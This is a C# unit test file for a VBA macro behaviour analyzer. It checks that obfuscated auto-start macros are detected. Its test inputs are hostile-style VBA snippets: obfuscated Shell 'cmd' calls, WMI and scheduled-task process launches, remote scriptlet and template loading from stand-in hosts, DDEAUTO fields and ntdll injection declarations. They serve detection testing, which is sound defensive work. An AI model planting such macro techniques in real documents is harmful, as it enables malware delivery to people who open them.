using Sekisho.Inspection.Formats;

namespace Sekisho.Inspection.Tests.Formats;

/// <summary>What code would do: texts worked out, ways followed, bounds kept.</summary>
public class VbaBehaviourTests
{
    [Theory]
    [InlineData("Shell Chr(99) & ChrW(109) & Chr$(&H64)", "cmd")]
    [InlineData("Shell StrReverse(\"dmc\")", "cmd")]
    [InlineData("Shell Replace(\"c#m#d\", \"#\", \"\")", "cmd")]
    [InlineData("Shell Join(Split(\"c-m-d\", \"-\"), \"\")", "cmd")]
    [InlineData("Shell Mid(\"xcmdy\", 2, 3) & Left(\" /c\", 2) & Right(\"zc\", 1)", "cmd /c")]
    [InlineData("a = Array(99, 109, 100)\r\nFor Each c In a\r\ns = s & Chr(c)\r\nNext\r\nShell s", "cmd")]
    [InlineData("a = Array(98, 108, 101)\r\nFor i = LBound(a) To UBound(a)\r\ns = s + Chr(a(i) Xor 1)\r\nNext i\r\nShell s", "cmd")]
    [InlineData("s = \"636d64\"\r\nDo While i < Len(s)\r\nr = r & Chr(\"&H\" & Mid(s, i + 1, 2))\r\ni = i + 2\r\nLoop\r\nShell r", "cmd")]
    [InlineData("s = \"c\": s = s & \"m\"\r\ns = s & \"d\"\r\nShell s", "cmd")]
    [InlineData("Const k = \"m\"\r\nShell \"c\" & k & Chr(wdKeyD + 32)", "cmd")]
    [InlineData("Shell Environ(\"comspec\") & \" /c\"", "%COMSPEC% /c")]
    [InlineData("Shell \"pow\" & Now & \"shell\"", "pow?shell")]
    [InlineData("If Now > 3 Then\r\nx = \"cmd\"\r\nExit Sub\r\nEnd If\r\nShell \"a \" & x", "a cmd")]
    [InlineData("Select Case 3\r\nCase 1, 2\r\nx = \"no\"\r\nCase 3 To 5\r\nx = \"cmd\"\r\nCase Else\r\nx = \"no\"\r\nEnd Select\r\nShell x", "cmd")]
    [InlineData("GoTo real\r\nExit Sub\r\nreal:\r\nShell \"cmd\"", "cmd")]
    [InlineData("Dim b(3) As Byte\r\nb(0) = 99: b(1) = 109: b(2) = 100\r\nShell Left(StrConv(b, vbUnicode), 3)", "cmd")]
    [InlineData("s = \"xxx\"\r\nMid(s, 1, 3) = \"cmd\"\r\nShell s", "cmd")]
    [InlineData("Set d = CreateObject(\"MSXML2.DOMDocument\").createElement(\"b\")\r\nd.DataType = \"bin.base64\"\r\nd.Text = \"Y21k\"\r\nShell StrConv(d.nodeTypedValue, vbUnicode)", "cmd")]
    [InlineData("Shell IIf(1 = 1, \"cmd\", \"no\")", "cmd")]
    public void Texts_AreWorkedOut(string statements, string expected) =>
        Assert.Equal($"AutoOpen -> Shell \"{expected}\"", Single($"Sub AutoOpen()\r\n{statements}\r\nEnd Sub").ToString());

    [Theory]
    [InlineData("WScript.Shell", "x.Run \"cmd\"")]
    [InlineData("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}", "x.Exec \"cmd\"")]
    [InlineData("Shell.Application", "x.ShellExecute \"cmd\", \"/c\"")]
    [InlineData("winmgmts:root\\cimv2:Win32_Process", "x.Create \"cmd\", Null, Null, p")]
    [InlineData("winmgmts:\\\\.\\root\\cimv2", "x.Get(\"Win32_Process\").Create \"cmd\"")]
    [InlineData("WbemScripting.SWbemLocator", "x.ConnectServer().Get(\"Win32_\" & \"Process\").Create \"cmd\"")]
    [InlineData("Schedule.Service", "x.GetFolder(\"\\\").RegisterTaskDefinition \"cmd\", d, 6, , , 3")]
    [InlineData("Excel.Application", "x.DDEInitiate \"cmd\", \"/c\"")]
    [InlineData("WScript.Shell", "CallByName x, \"Run\", 1, \"cmd\"")]
    [InlineData("WScript.Shell", "With x\r\n.Run \"cmd\", 0\r\nEnd With")]
    [InlineData("WScript.Shell", "Application.ExecuteExcel4Macro \"EXEC(\"\"cmd\"\")\"")]
    public void WaysToRunAProgram_AreKnown(string name, string statement)
    {
        var action = Single($"Sub AutoOpen()\r\nSet x = GetObject(\"{name}\")\r\n{statement}\r\nEnd Sub");

        Assert.Equal((VbaActionKind.RunsProgram, VbaReach.SelfStart), (action.Kind, action.Reach));
        Assert.Contains("cmd", action.What, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Sub AutoOpen()\r\nApplication.OnTime Now, \"Later\"\r\nEnd Sub\r\nPrivate Sub Later()\r\nShell \"cmd\"\r\nEnd Sub", "AutoOpen -> Later")]
    [InlineData("Sub AutoOpen()\r\nCall One\r\nEnd Sub\r\nPrivate Sub One()\r\nx = Two(1)\r\nEnd Sub\r\nFunction Two(a)\r\nShell \"cmd\"\r\nEnd Function", "AutoOpen -> One -> Two")]
    [InlineData("Sub AutoOpen()\r\nIf 1 = 2 Then\r\nOne\r\nEnd If\r\nEnd Sub\r\nPrivate Sub One()\r\nShell \"cmd\"\r\nEnd Sub", "AutoOpen -> One")]
    [InlineData("Private Sub InkPicture1_Painted(ByVal h As Long, ByVal r As MSINKAUTLib.IInkRectangle)\r\nShell \"cmd\"\r\nEnd Sub", "InkPicture1_Painted")]
    [InlineData("Sub AutoOpen()\r\nOn Error GoTo bad\r\nx = 1 / 0\r\nExit Sub\r\nbad:\r\nShell \"cmd\"\r\nEnd Sub", "AutoOpen")]
    public void Ways_AreFollowed(string source, string path)
    {
        var action = Single(source);

        Assert.Equal((VbaReach.SelfStart, path), (action.Reach, action.Path));
    }

    [Theory]
    [InlineData("Image1_MouseMove(ByVal b As Integer)", "ThisDocument", "", VbaReach.SelfStart)]
    [InlineData("ComboBox1_Change()", "Sheet1", "Attribute VB_Base = \"0{00020820-0000-0000-C000-000000000046}\"\r\n", VbaReach.SelfStart)]
    [InlineData("ComboBox1_Change()", "Module1", "", VbaReach.User)]
    [InlineData("ComboBox1_Change()", "Form1", "Attribute VB_Base = \"0{AAAAAAAA-0000-0000-0000-000000000000}{BBBBBBBB-0000-0000-0000-000000000000}\"\r\n", VbaReach.User)]
    [InlineData("Worksheet_Change(ByVal t As Range)", "Sheet1", "Attribute VB_Base = \"0{00020820-0000-0000-C000-000000000046}\"\r\n", VbaReach.User)]
    [InlineData("FileClose()", "ThisDocument", "", VbaReach.SelfStart)]
    [InlineData("FileSave()", "Module1", "Attribute VB_Base = \"0{00020906-0000-0000-C000-000000000046}\"\r\n", VbaReach.SelfStart)]
    [InlineData("FileOpen()", "Module1", "", VbaReach.User)]
    public void EventThatPeopleDoNotMean_IsAStart(string head, string module, string attributes, VbaReach reach) =>
        Assert.Equal(reach, Assert.Single(Of(VbaSurroundings.None, new VbaModule(module, $"{attributes}Sub {head}\r\nShell \"cmd\"\r\nEnd Sub", false)).Actions).Reach);

    [Theory]
    [InlineData("GetObject \"script:http://a.test/a.sct\"", VbaActionKind.RunsProgram, VbaActionKind.Downloads)]
    [InlineData("Set x = GetObject(\"scr\" & \"ipt:http://a.test/a.sct\")", VbaActionKind.RunsProgram, VbaActionKind.Downloads)]
    [InlineData("GetObject \"\\\\192.0.2.4\\a.sct\"", VbaActionKind.RunsProgram)]
    [InlineData("CreateObject(\"htmlfile\").parentWindow.execScript \"x()\", \"JScript\"", VbaActionKind.RunsProgram)]
    [InlineData("AddIns.Add \"http://a.test/a.dotm\", True", VbaActionKind.RunsProgram, VbaActionKind.Downloads)]
    [InlineData("AddIns.Add \"c:\\a.wll\", True", VbaActionKind.RunsProgram)]
    [InlineData("ActiveDocument.AttachedTemplate = \"http://a.test/a.dotm\"", VbaActionKind.Downloads)]
    [InlineData("ActiveDocument.Fields.Add Selection.Range, -1, \"DDEAUTO cmd.exe\"", VbaActionKind.RunsProgram)]
    [InlineData("ActiveDocument.InlineShapes(1).OLEFormat.Activate", VbaActionKind.RunsProgram)]
    [InlineData("With ActiveDocument.InlineShapes(1).OLEFormat\r\n.DoVerb 0\r\nEnd With", VbaActionKind.RunsProgram)]
    [InlineData("ActiveDocument.Shapes.AddOLEObject FileName:=\"http://a.test/a.exe\"", VbaActionKind.Downloads)]
    [InlineData("Set o = GetObject(\"winmgmts:root\\subscription\").Get(\"CommandLineEventConsumer\").SpawnInstance_\r\no.CommandLineTemplate = \"cmd\"", VbaActionKind.RunsProgram)]
    [InlineData("CreateObject(\"System.Runtime.Serialization.Formatters.Binary.BinaryFormatter\").Deserialize_2 s", VbaActionKind.InjectsCode)]
    [InlineData("CreateObject(\"Shell.Application\").Namespace(7).CopyHere \"\\\\192.0.2.4\\a.exe\"", VbaActionKind.WritesProgram)]
    [InlineData("SendKeys \"^{ESC}cmd{ENTER}\"", VbaActionKind.RunsProgram)]
    [InlineData("Application.SendKeys \"powershell~\"", VbaActionKind.RunsProgram)]
    [InlineData("CreateObject(\"WScript.Shell\").SendKeys \"cmd~\"", VbaActionKind.RunsProgram)]
    [InlineData("With CreateObject(\"WScript.Shell\").CreateShortcut(\"c:\\a.lnk\")\r\n.TargetPath = \"cmd.exe\"\r\n.Save\r\nEnd With", VbaActionKind.WritesProgram, VbaActionKind.RunsProgram)]
    public void WaysToHaveSomethingLoaded_AreKnown(string statements, params VbaActionKind[] kinds)
    {
        var actions = Of(VbaSurroundings.None, new VbaModule("ThisDocument", $"Sub AutoOpen()\r\n{statements}\r\nEnd Sub", false)).Actions.Where(a => a.Reach == VbaReach.SelfStart).Select(a => a.Kind);

        Assert.Superset(kinds.ToHashSet(), actions.ToHashSet());
    }

    [Theory]
    [InlineData("ntdll", "ZwCreateThreadEx", VbaActionKind.InjectsCode)]
    [InlineData("ntdll.dll", "ZwProtectVirtualMemory", VbaActionKind.InjectsCode)]
    [InlineData("shell32", "#167", VbaActionKind.RunsProgram)]
    public void FunctionByAnotherName_IsKnown(string library, string function, VbaActionKind kind) =>
        Assert.Equal(kind, Single($"Private Declare PtrSafe Function z Lib \"{library}\" Alias \"{function}\" (ByVal a As String) As Long\r\nSub AutoOpen()\r\nz \"x\"\r\nEnd Sub").Kind);

    [Theory]
    [InlineData("SendKeys \"%{F4}\"")]
    [InlineData("SendKeys \"{ENTER}\", True")]
    [InlineData("AddIns.Add \"\\\\server\\share\\tools.xlam\", True")]
    [InlineData("ActiveDocument.AttachedTemplate = \"\\\\server\\share\\letter.dotx\"")]
    [InlineData("ActiveDocument.Fields.Add Selection.Range, wdFieldPage")]
    [InlineData("x = ActiveDocument.InlineShapes(1).OLEFormat.ProgID")]
    [InlineData("ActiveSheet.OLEObjects(\"Box\").Activate")]
    [InlineData("CreateObject(\"Shell.Application\").Namespace(\"c:\\a\").CopyHere CreateObject(\"Shell.Application\").Namespace(\"c:\\a.zip\").Items")]
    [InlineData("CreateObject(\"htmlfile\").write \"<p>\"")]
    [InlineData("GetObject(\"\\\\server\\share\\book.xlsx\").Close")]
    public void EverydayWays_AreNot(string statement) => Assert.DoesNotContain(Of(VbaSurroundings.None, new VbaModule("ThisDocument", $"Sub AutoOpen()\r\n{statement}\r\nEnd Sub", false)).Actions, a => a.Kind is not VbaActionKind.OpensProgram);

    [Fact]
    public void ShownForm_StartsItsOwnEvents()
    {
        var surroundings = new VbaSurroundings([new DocumentText(DocumentTextKind.Form, "Frm.Caption", "x"), new DocumentText(DocumentTextKind.Form, "Frm/Box.Tag", "c#m#d")], null);
        var form = new VbaModule("Frm", "Attribute VB_Base = \"0{AAAAAAAA-0000-0000-0000-000000000000}{BBBBBBBB-0000-0000-0000-000000000000}\"\r\nPrivate Sub UserForm_Initialize()\r\nShell Replace(Box.Tag, \"#\", \"\")\r\nEnd Sub\r\nPrivate Sub Box_GotFocus()\r\nEnd Sub", false);

        var shown = Of(surroundings, form, new VbaModule("M", "Sub AutoOpen()\r\nFrm.Show\r\nEnd Sub", false));
        Assert.Equal("AutoOpen -> UserForm_Initialize -> Shell \"cmd\"", Assert.Single(shown.Actions).ToString());
        Assert.True(shown.ReadsStorage);

        var alone = Of(surroundings, form);
        Assert.Equal(VbaReach.User, Assert.Single(alone.Actions).Reach);
        Assert.Empty(alone.Starts);
    }

    [Fact]
    public void TextsAroundTheCode_AreRead()
    {
        var surroundings = new VbaSurroundings(
            [new DocumentText(DocumentTextKind.Property, "Title", "c"), new DocumentText(DocumentTextKind.Variable, "v", "m"), new DocumentText(DocumentTextKind.Form, "UserForm1/Box1.Value", "d"), new DocumentText(DocumentTextKind.Form, "Label1.Caption", " /c")],
            new XlmProject([new XlmSheet("Data", XlmVisibility.Visible, false, [new XlmCell(4, 1, null, " dir")])], [], false),
            ["Ribbon"]);

        var behaviour = Of(surroundings, new VbaModule("M", "Sub Ribbon(r)\r\nShell ActiveDocument.BuiltInDocumentProperties(\"Title\") & ActiveDocument.Variables(\"v\").Value & UserForm1.Box1.Text & ThisDocument.Label1.Caption & Sheets(\"Data\").Range(\"B5\").Value & Worksheets(\"Data\").Cells(5, 2)\r\nEnd Sub", false));

        Assert.Equal("Ribbon -> Shell \"cmd /c dir dir\"", Assert.Single(behaviour.Actions).ToString());
    }

    [Theory]
    [InlineData("D(\"62607077\")")]
    [InlineData("Chr(1) & \"zz\"")]
    [InlineData("\"Zq\" & \"w.Xy\"")]
    public void ObjectByANameThatNobodyWrote_IsUnknown_AndSoIsWhatItRuns(string name)
    {
        var actions = Of(VbaSurroundings.None, new VbaModule("M", $"Function D(s)\r\nFor i = 1 To Len(s) Step 2\r\nD = D & Chr(Val(\"&H\" & Mid(s, i, 2)) Xor 3)\r\nNext\r\nEnd Function\r\nSub AutoOpen()\r\nCreateObject({name}).Run x\r\nEnd Sub", false)).Actions;

        Assert.Equal([VbaActionKind.UnknownObject, VbaActionKind.RunsProgram], actions.Select(a => a.Kind));
    }

    [Fact]
    public void PropertyOfAClass_KeepsItsValue() =>
        Assert.Equal("AutoOpen -> Go -> Shell \"cmd /c x\"", Assert.Single(Of(VbaSurroundings.None,
            new VbaModule("M", "Sub AutoOpen()\r\nDim c As New Worker\r\nc.Cmd = \"cmd /c x\"\r\nc.Go\r\nEnd Sub", false),
            new VbaModule("Worker", "Private m\r\nPublic Property Get Cmd()\r\nCmd = m\r\nEnd Property\r\nPublic Property Let Cmd(v)\r\nm = v\r\nEnd Property\r\nSub Go()\r\nShell Me.Cmd\r\nEnd Sub", false)).Actions).ToString());

    [Fact]
    public void ClassOfItsOwn_RunsWhenAnObjectIsMade() =>
        Assert.Equal("AutoOpen -> Class_Initialize", Assert.Single(Of(VbaSurroundings.None,
            new VbaModule("M", "Sub AutoOpen()\r\nDim c As New Worker\r\nEnd Sub", false),
            new VbaModule("Worker", "Attribute VB_Base = \"0{FCFB3D2A-A0FA-1068-A738-08002B3371B5}\"\r\nPrivate Sub Class_Initialize()\r\nShell \"cmd\"\r\nEnd Sub", false)).Actions).Path);

    [Theory]
    [InlineData("Sub AutoOpen()\r\nDo\r\nx = x + 1\r\nLoop\r\nEnd Sub\r\nSub Document_Open()\r\nShell \"cmd\"\r\nEnd Sub")]
    [InlineData("Sub AutoOpen()\r\nFor i = 1 To 1000000000\r\nFor j = 1 To 1000000000\r\ns = s & Chr(65)\r\nNext j, i\r\nShell \"cmd\"\r\nEnd Sub")]
    [InlineData("Sub AutoOpen()\r\nAutoOpen\r\nAutoOpen\r\nShell \"cmd\"\r\nEnd Sub")]
    [InlineData("Sub AutoOpen()\r\ns = String(99999, \"x\")\r\nFor i = 1 To 9999\r\ns = s & s\r\nNext\r\nShell \"cmd\"\r\nEnd Sub")]
    [InlineData("Sub AutoOpen()\r\ns = String(99999, \"x\")\r\nFor i = 1 To 99999\r\nt = t & Replace(s, \"x\", \"yy\")\r\nIf t = s Then u = Len(t & s)\r\nNext\r\nShell \"cmd\"\r\nEnd Sub")]
    [InlineData("Sub AutoOpen()\r\nback:\r\nx = x + 1\r\nIf x < 100000000 Then GoTo back\r\nShell \"cmd\"\r\nEnd Sub")]
    public void EndlessCode_EndsAndHidesNothing(string source) => Assert.Equal(VbaReach.SelfStart, Assert.Single(Of(VbaSurroundings.None, new VbaModule("M", source, false)).Actions).Reach);

    [Theory]
    [InlineData("((((((((((")]
    [InlineData("Not ")]
    [InlineData("-")]
    [InlineData("a(")]
    [InlineData("a.")]
    [InlineData("If a Then\r\n")]
    [InlineData("If a Then ")]
    [InlineData("For i = 1 To 2\r\n")]
    [InlineData("Select Case a\r\nCase ")]
    [InlineData("With a\r\n")]
    [InlineData("\"x\" & ")]
    public void DeepNesting_OverflowsNothing(string piece)
    {
        var source = "Sub AutoOpen()\r\nShell \"cmd\"\r\nx = " + string.Concat(Enumerable.Repeat(piece, 20_000)) + "\r\nEnd Sub";

        Assert.Contains(Of(VbaSurroundings.None, new VbaModule("M", source, false)).Actions, a => a.What == "Shell \"cmd\"");
    }

    /// <summary>Names that meet one another in every way: the work must not be their product.</summary>
    [Fact]
    public void ManyProcedures_AreQuicklyRelated()
    {
        var many = string.Concat(Enumerable.Range(0, 18_000).Select(i => $"Sub p{i}()\r\nF.Go x.Go F\r\nEnd Sub\r\n"));
        var same = "Attribute VB_Base = \"0{FCFB3D2A-A0FA-1068-A738-08002B3371B5}\"\r\n" + string.Concat(Enumerable.Repeat("Sub Go()\r\nEnd Sub\r\n", 18_000));
        var clock = System.Diagnostics.Stopwatch.StartNew();

        Of(VbaSurroundings.None, new VbaModule("M", many, false), new VbaModule("F", same, false));

        Assert.InRange(clock.Elapsed, TimeSpan.Zero, TimeSpan.FromSeconds(10));
    }

    private static VbaAction Single(string source) => Assert.Single(Of(VbaSurroundings.None, new VbaModule("ThisDocument", source, false)).Actions);

    private static VbaBehaviour Of(VbaSurroundings surroundings, params VbaModule[] modules) => VbaBehaviour.Of(new VbaProject("VBA", 1252, modules, false), surroundings);
}
